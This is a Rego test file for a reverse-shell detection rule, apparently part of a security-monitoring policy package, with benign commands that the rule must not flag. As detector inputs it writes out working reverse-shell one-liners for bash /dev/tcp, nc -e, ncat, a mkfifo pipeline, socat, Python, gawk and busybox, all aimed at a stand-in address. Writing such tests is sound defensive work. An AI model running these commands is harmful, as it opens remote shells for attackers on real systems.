package palisade.rules.reverse_shell_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.reverse_shell as rule

test_bash_dev_tcp if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
	count(hits) == 1
}

test_combined_flags_dev_udp if {
	hits := rule.hits with input as fx.container_exec("/bin/dash", ["sh", "-lc", "sh -i >& /dev/udp/203.0.113.7/53 0>&1"])
	count(hits) == 1
}

test_nc_dash_e if {
	hits := rule.hits with input as fx.container_exec("/usr/bin/nc.traditional", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"])
	count(hits) == 1
}

test_ncat_sh_exec if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "203.0.113.7", "443"])
	count(hits) == 1
}

test_fifo_pipeline if {
	hits := rule.hits with input as fx.host_exec("/bin/sh", ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"])
	count(hits) == 1
}

test_socat_exec_to_tcp if {
	hits := rule.hits with input as fx.container_exec("/usr/bin/socat", ["socat", "EXEC:bash -li,pty,stderr,setsid,sigint,sane", "TCP:203.0.113.7:4444"])
	count(hits) == 1
}

test_python_one_liner if {
	code := `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])`
	hits := rule.hits with input as fx.host_exec("/usr/bin/python3.12", ["python3", "-c", code])
	count(hits) == 1
}

test_plain_shell_script_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "echo ok > /dev/null; exec /app/server --port 8080"])
	count(hits) == 0
}

test_nc_port_check_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/nc", ["nc", "-zv", "db.internal", "5432"])
	count(hits) == 0
}

test_socat_port_forward_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"])
	count(hits) == 0
}

test_python_http_client_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"])
	count(hits) == 0
}

test_pty_spawn_of_a_shell if {
	ev := fx.container_exec("/usr/bin/python3", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"])
	rule.hits == {"python3 spawns a shell on a pty in container web (registry.example.com/shop/web:1.4.2): python3 -c import pty; pty.spawn('/bin/bash')"} with input as ev
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import pty; pty.spawn(['ls'])"])
}

test_awk_sockets_and_shells if {
	inet := fx.host_exec("/usr/bin/gawk", ["gawk", "BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {s |& getline c; print c |& s}}"])
	count(rule.hits) == 1 with input as inet
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/awk", ["awk", "BEGIN {system(\"/bin/sh\")}"])
	count(rule.hits) == 1 with input as fx.container_exec("/bin/busybox", ["busybox", "awk", "BEGIN{system('sh -i')}"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{system(\"rm \" $1)}"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{print $1}", "/tmp/shell.log"])
}

test_busybox_nc_exec_is_a_reverse_shell if {
	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
	count(rule.hits) == 1 with input as ev
}
